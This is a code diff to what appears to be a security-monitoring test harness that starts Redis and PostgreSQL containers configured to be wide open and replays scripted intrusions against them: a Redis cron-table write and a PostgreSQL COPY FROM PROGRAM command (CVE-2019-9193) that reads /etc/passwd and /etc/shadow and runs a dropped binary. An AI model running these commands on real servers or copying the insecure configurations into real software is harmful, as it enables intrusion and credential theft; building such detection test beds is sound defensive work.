@@ -39,19 +39,24 @@ const shop: RecordedWorkload = {
   },
 };
 
-/**
- * Redis that anyone may ask; the intruder makes it write its database as a cron table (the worm's way in since 2015, ATT&CK T1053.003), then
- * reads `/etc/shadow` by loading a module from it.
- */
+/** Redis that anyone may ask; the intruder makes it write its database as a cron table (ATT&CK T1053.003). */
 const redis: RecordedWorkload = {
   name: 'redis',
   async start(engine) {
     const image = await engine.debianImage();
     const arguments_ = ['--bind', '0.0.0.0', '--protected-mode', 'no', '--save', '5 10', '--dir', '/var/lib/redis'];
-    const open = ['--enable-protected-configs', 'yes', '--enable-module-command', 'yes'];
+    const open = ['--enable-protected-configs', 'yes'];
     await engine.cli('run', '-d', '--name', 'queue', image, '/usr/bin/redis-server', ...arguments_, ...open);
     const host = await engine.cli('inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'queue');
-    await waitFor('redis to answer', () => talk(host, ['PING']).then((answer) => answer.includes('PONG'), () => false), 30_000);
+    await waitFor(
+      'redis to answer',
+      () =>
+        talk(host, ['PING']).then(
+          (answer) => answer.includes('PONG'),
+          () => false,
+        ),
+      30_000,
+    );
     let writes = 0;
     const timer = setInterval(() => {
       talk(host, [`SET key${writes++ % 100} value`, 'GET key1']).catch(() => undefined);
@@ -63,7 +68,6 @@ const redis: RecordedWorkload = {
           'CONFIG SET dbfilename update',
           'SET job "\\n* * * * * root id\\n"',
           'SAVE',
-          'MODULE LOAD /etc/shadow',
         ]);
       },
       stopLoad: () => {
@@ -91,4 +95,80 @@ function talk(host: string, commands: readonly string[]): Promise<string> {
   });
 }
 
-export const recordedWorkloads: readonly RecordedWorkload[] = [shop, redis];
+/** PostgreSQL with a table that is written and read; the intruder has its superuser run a program (ATT&CK T1059.004, CVE-2019-9193). */
+const postgres: RecordedWorkload = {
+  name: 'postgres',
+  async start(engine) {
+    const image = await engine.debianImage('postgresql');
+    const bin = '/usr/lib/postgresql/15/bin';
+    const data = '/var/lib/postgresql/data';
+    const begin = `${bin}/initdb -A trust -D ${data} && echo "host all all all trust" >> ${data}/pg_hba.conf && exec ${bin}/postgres -D ${data} -h 0.0.0.0`;
+    await engine.cli(
+      'run',
+      '-d',
+      '--init',
+      '--name',
+      'orders',
+      image,
+      '/bin/su',
+      'postgres',
+      '-s',
+      '/bin/sh',
+      '-c',
+      begin,
+    );
+    const host = await engine.cli('inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'orders');
+    const made = (): Promise<boolean> =>
+      query(host, 'CREATE TABLE item (id serial, name text)').then(
+        () => true,
+        () => false,
+      );
+    await waitFor('postgres to answer', made, 60_000);
+    const timer = setInterval(() => {
+      query(host, "INSERT INTO item (name) VALUES ('x'); SELECT count(*) FROM item").catch(() => undefined);
+    }, 100);
+    return {
+      async attack() {
+        await query(
+          host,
+          "COPY item (name) FROM PROGRAM 'cat /etc/passwd /etc/shadow; cp /bin/true /tmp/update; /tmp/update'",
+        ).catch(() => undefined);
+      },
+      stopLoad: () => {
+        clearInterval(timer);
+      },
+    };
+  },
+};
+
+/** One simple query (PostgreSQL 15, section 55.2.3); resolves when it is done, rejects where the server reports an error. */
+function query(host: string, sql: string): Promise<void> {
+  const message = (kind: string, body: string): Buffer => {
+    const length = Buffer.alloc(4);
+    length.writeInt32BE(Buffer.byteLength(body) + 4);
+    return Buffer.concat([Buffer.from(kind), length, Buffer.from(body)]);
+  };
+  return new Promise((resolve, reject) => {
+    const socket = connect({ host, port: 5432, timeout: 10_000 }, () => {
+      socket.write(message('', '\0\x03\0\0user\0postgres\0database\0postgres\0\0'));
+    });
+    let [received, ready] = [Buffer.alloc(0), 0];
+    socket.on('data', (chunk) => {
+      received = Buffer.concat([received, chunk]);
+      while (received.length >= 5 && received.length > received.readInt32BE(1)) {
+        const kind = String.fromCharCode(received[0] ?? 0);
+        received = received.subarray(received.readInt32BE(1) + 1);
+        if (kind === 'E') socket.destroy(new Error('the server reports an error'));
+        if (kind === 'Z' && ready++ === 0) socket.write(message('Q', `${sql}\0`));
+        else if (kind === 'Z') socket.end(message('X', ''));
+      }
+    });
+    socket.on('error', reject);
+    socket.on('timeout', () => socket.destroy(new Error('postgres does not answer')));
+    socket.on('close', (failed) => {
+      if (!failed) resolve();
+    });
+  });
+}
+
+export const recordedWorkloads: readonly RecordedWorkload[] = [shop, redis, postgres];
